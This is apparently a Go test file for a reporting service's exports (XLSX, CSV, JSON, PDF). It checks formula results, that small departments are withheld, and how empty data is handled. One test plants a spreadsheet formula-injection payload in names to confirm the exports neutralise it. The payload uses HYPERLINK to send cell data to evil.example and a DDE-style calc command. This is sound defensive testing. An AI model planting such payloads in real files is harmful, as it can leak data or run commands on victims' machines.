package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"math"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"relais/backend/workspace"
)

var wholeYear = Filter{From: "2025-07-01", To: "2026-06-30"}

func export(t *testing.T, s *Service, f Filter, format, language string) []byte {
	t.Helper()
	data, err := s.Export(context.Background(), f, format, language)
	if err != nil {
		t.Fatal(err)
	}
	keep(t, "year-"+language+"."+format, data)
	return data
}

func TestExports(t *testing.T) {
	_, s := sampleYear(t)
	v, err := s.View(context.Background(), wholeYear)
	if err != nil {
		t.Fatal(err)
	}
	for _, language := range []string{"en", "fr"} {
		book, err := excelize.OpenReader(bytes.NewReader(export(t, s, wholeYear, XLSX, language)))
		if err != nil {
			t.Fatal(err)
		}
		sheet := book.GetSheetName(0)
		for i, f := range v.Figures {
			formula, _ := book.GetCellFormula(sheet, cellName(2, titleRows+1+i))
			if quotient := f.Over != nil && f.Under != nil && f.Value != nil; quotient != (formula != "") {
				t.Errorf("%s in %s: formula %q", f.Code, language, formula)
			}
			if formula == "" {
				continue
			}
			text, err := book.CalcCellValue(sheet, cellName(2, titleRows+1+i), excelize.Options{RawCellValue: true})
			got, parseErr := strconv.ParseFloat(text, 64)
			if err != nil || parseErr != nil || math.Abs(got-*f.Value) > 1e-9*math.Abs(*f.Value) {
				t.Errorf("%s: the formula gives %s, the figure is %v (%v)", f.Code, text, *f.Value, err)
			}
		}
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(export(t, s, wholeYear, CSV, "en"), []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) < 50 {
		t.Fatalf("%v, %d rows of CSV", err, len(rows))
	}
	var out jsonReport
	if err := json.Unmarshal(export(t, s, wholeYear, JSON, "fr"), &out); err != nil || len(out.Figures) != len(v.Figures) {
		t.Fatalf("%v, %d figures of JSON", err, len(out.Figures))
	}
	if _, err := s.Export(context.Background(), wholeYear, "docx", "en"); !errors.Is(err, workspace.NewFault("format_unknown")) {
		t.Fatalf("got %v", err)
	}
}

// TestSmallGroupsAreInNoExport looks for the department of two people, and for
// what the others and the whole would give away of it.
func TestSmallGroupsAreInNoExport(t *testing.T) {
	_, s := sampleYear(t)
	for _, format := range []string{CSV, JSON} {
		if strings.Contains(string(export(t, s, wholeYear, format, "en")), "Administration") {
			t.Errorf("the department of two is in the %s", format)
		}
	}
	v, err := s.View(context.Background(), wholeYear)
	if err != nil {
		t.Fatal(err)
	}
	var rest int
	for _, g := range v.Groups[ByDepartment] {
		if g.Rest {
			rest++
		}
	}
	if rest != 1 || len(v.Groups[ByDepartment]) != 3 {
		t.Fatalf("groups %+v", v.Groups[ByDepartment])
	}
	// Commerce has six people, but stands in the rest to cover Administration.
	for _, name := range []string{"Administration", "Commerce"} {
		f := wholeYear
		f.Department = name
		if v, _ := s.View(context.Background(), f); !v.Withheld || len(v.Figures)+len(v.Series)+len(v.Compare) != 0 {
			t.Errorf("%s can be asked for alone", name)
		}
	}
}

func TestNoFormulaFromOutside(t *testing.T) {
	ws, s := sampleYear(t)
	for _, lead := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"} {
		hostile := lead + `HYPERLINK("http://evil.example?"&A1)|' /C calc'!A0` + "\r\n=1+1;=2+2"
		for _, table := range []string{"topic", "department", "campaign"} {
			exec(t, ws, `UPDATE `+table+` SET name = '`+strings.ReplaceAll(hostile, "'", "''")+`' || id`)
		}
		if err := ws.Settings.SetCompany(context.Background(), workspace.Company{Name: hostile}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(export(t, s, wholeYear, CSV, "en"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, row := range rows {
			for _, cell := range row {
				found = found || strings.Contains(cell, "HYPERLINK")
				if _, err := strconv.ParseFloat(cell, 64); err != nil && strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 {
					t.Errorf("the CSV has the cell %q", cell)
				}
			}
		}
		if !found {
			t.Fatalf("%q: no name is in the CSV", lead)
		}
		if cells := textCells(t, export(t, s, wholeYear, XLSX, "en")); cells == 0 {
			t.Errorf("%q: no name is in the workbook", lead)
		}
		if data := export(t, s, wholeYear, JSON, "en"); !json.Valid(data) {
			t.Errorf("%q: the JSON cannot be read", lead)
		}
		if data := export(t, s, wholeYear, PDF, "en"); bytes.Contains(data, []byte("/URI")) || bytes.Contains(data, []byte("/JavaScript")) {
			t.Errorf("%q: the PDF does more than show", lead)
		}
	}
}

// textCells counts the cells that hold a hostile name, and fails where one is no
// text or one of Relais' own formulas holds it.
func textCells(t *testing.T, data []byte) (found int) {
	t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for y, row := range rows {
			for x, text := range row {
				at := cellName(x+1, y+1)
				formula, _ := book.GetCellFormula(sheet, at)
				if strings.Contains(formula, "HYPERLINK") || strings.Contains(formula, "!") {
					t.Errorf("%s %s is the formula %q", sheet, at, formula)
				}
				if !strings.Contains(text, "HYPERLINK") {
					continue
				}
				found++
				if kind, err := book.GetCellType(sheet, at); err != nil || formula != "" || kind != excelize.CellTypeSharedString && kind != excelize.CellTypeInlineString {
					t.Errorf("%s %s has type %v and the formula %q (%v)", sheet, at, kind, formula, err)
				}
			}
		}
		if links, _ := book.GetHyperLinkCells(sheet, ""); len(links) > 0 {
			t.Errorf("%s has links at %v", sheet, links)
		}
	}
	return found
}

func TestNothingYet(t *testing.T) {
	ws, ctx := open(t)
	s := New(ws, emptyLedger(ws))
	for _, f := range []Filter{{}, {From: "2026-01-01", To: "2026-01-31"}, {Department: "Nowhere"}, {Network: "xing"}} {
		v, err := s.View(ctx, f)
		if err != nil {
			t.Fatal(err)
		}
		for _, code := range []string{Adoption, Participation, ShareRate, Amplification, Balance, Per1000, EMV} {
			if x := v.Figure(code); x.Value != nil {
				t.Errorf("%s of nothing is %v", code, *x.Value)
			}
		}
		for _, format := range Formats() {
			if _, err := s.Export(ctx, f, format, "fr"); err != nil {
				t.Errorf("%s of nothing: %v", format, err)
			}
		}
	}
	for _, f := range []Filter{{From: "31/12/2025"}, {From: "2026-05-01", To: "2026-04-01"}} {
		if _, err := s.View(ctx, f); err == nil {
			t.Errorf("%+v is taken", f)
		}
	}
}
